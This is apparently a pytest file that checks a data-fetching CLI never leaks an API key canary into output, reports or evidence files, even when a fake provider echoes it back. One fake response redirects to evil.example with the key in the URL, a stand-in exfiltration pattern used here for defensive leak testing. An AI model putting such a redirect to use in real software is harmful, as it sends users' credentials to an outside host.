"""Keys reach the provider and nothing else: no stream, no file, no report, no error."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from program.conftest import Run
from provider_server import Answer, Ask, ProviderServer, failing, redirect

HOST, PATH = "api.keyed.example", "/v1/liquidations"
KEY = "CANARY-8f3a1c77e2/+=&"
TESTS = Path(__file__).parents[1]
#: A third-party package with a source that needs a key, as an installer leaves it behind.
PLUGIN = f"""
import sys
sys.path.append({str(TESTS)!r})
import importlib.metadata as metadata
found = metadata.entry_points
def with_a_keyed_one(**asked):
    points = found(**asked)
    if asked.get("group") != "verify.sources":
        return points
    return metadata.EntryPoints([*points, metadata.EntryPoint("keyed", "keyed_source:SOURCE", "verify.sources")])
metadata.entry_points = with_a_keyed_one
import types
module = types.ModuleType("keyed_source")
def load(name):
    import fake_source
    return fake_source.source("keyed", auth=("VERIFY_KEYED_API_KEY",), auth_headers=("X-Api-Key",))
module.__getattr__ = load
sys.modules["keyed_source"] = module
import logging
logging.basicConfig(level=logging.DEBUG)
"""


def echo(ask: Ask) -> Answer:
    """A provider that repeats what it was sent, in its body and in its headers, and finds it wrong."""
    key = ask.headers.get("X-Api-Key", "none")
    body = json.dumps({"error": f"key {key} is not allowed", "orders": [], "next": key}).encode()
    return Answer(body, 200, {"Content-Type": "application/json", "X-Echo": key, "Set-Cookie": f"session={key}"})


ANSWERS = {
    "echoed": echo,
    "refused": lambda ask: Answer(b"no such key: " + ask.headers.get("X-Api-Key", "").encode(), 401),
    "server error": lambda ask: failing(500, b"crashed over " + ask.headers.get("X-Api-Key", "").encode()),
    "redirected with the key": lambda ask: redirect(f"https://evil.example/?key={ask.headers.get('X-Api-Key')}"),
    "nonsense": lambda ask: Answer(b"<html>" + ask.headers.get("X-Api-Key", "").encode()),
}


@pytest.mark.slow
@pytest.mark.parametrize(
    ("kind", "form"), [("echoed", "table"), *((kind, "json") for kind in ANSWERS)], ids=lambda value: str(value)
)
def test_a_key_is_found_nowhere(program: Run, server: ProviderServer, tmp_path: Path, kind: str, form: str) -> None:
    server.serve(HOST, PATH, ANSWERS[kind])
    arguments = ("--window", "4h", "--source", "keyed", "--deadline", "10", "--evidence", "run.warc")
    done = program("liquidations", *arguments, "--format", form, "--debug", before=PLUGIN, VERIFY_KEYED_API_KEY=KEY)
    assert done.code in (0, 3, 4), done.err
    sent = {ask.headers.get("X-Api-Key") for ask in server.asked if ask.host == HOST}
    assert sent == {KEY}, "it was sent, or this test shows nothing"
    assert {ask.host for ask in server.asked} == {HOST}
    seen = {"stdout": done.out, "stderr": done.err}
    seen |= {str(path): path.read_text("utf-8", "replace") for path in tmp_path.rglob("*") if path.is_file()}
    assert [name for name, text in seen.items() if "CANARY" in text] == []
    assert "VERIFY_KEYED_API_KEY" in seen[str(tmp_path / "run.warc")] or kind != "echoed"


@pytest.mark.slow
def test_a_source_whose_key_is_missing_says_which(program: Run, server: ProviderServer) -> None:
    done = program("liquidations", "--window", "4h", "--source", "keyed", "-q", before=PLUGIN)
    assert "VERIFY_KEYED_API_KEY" in done.out
    assert not server.asked
    listed = program("sources", before=PLUGIN, VERIFY_KEYED_API_KEY=KEY)
    assert "VERIFY_KEYED_API_KEY (set)" in listed.out
    assert "CANARY" not in listed.out + listed.err


@pytest.mark.slow
def test_a_key_is_in_no_report_and_no_evidence_of_a_job(program: Run, server: ProviderServer, tmp_path: Path) -> None:
    server.serve(HOST, PATH, echo)
    (tmp_path / "verify.toml").write_text("[checks.a]\nwindow = '4h'\nclaim = '$1M'\nsources = ['keyed']\n")
    reports = [f"--report={kind}=out.{kind}" for kind in ("json", "jsonl", "junit", "sarif", "github", "summary", "md")]
    done = program("run", *reports, "--evidence", "run.warc", "--debug", before=PLUGIN, VERIFY_KEYED_API_KEY=KEY)
    assert done.code in (0, 1, 3, 4), done.err
    assert {ask.headers.get("X-Api-Key") for ask in server.asked if ask.host == HOST} == {KEY}
    seen = {"stdout": done.out, "stderr": done.err}
    seen |= {str(path): path.read_text("utf-8", "replace") for path in tmp_path.rglob("*") if path.is_file()}
    assert len(seen) > len(reports)
    assert [name for name, text in seen.items() if "CANARY" in text] == []
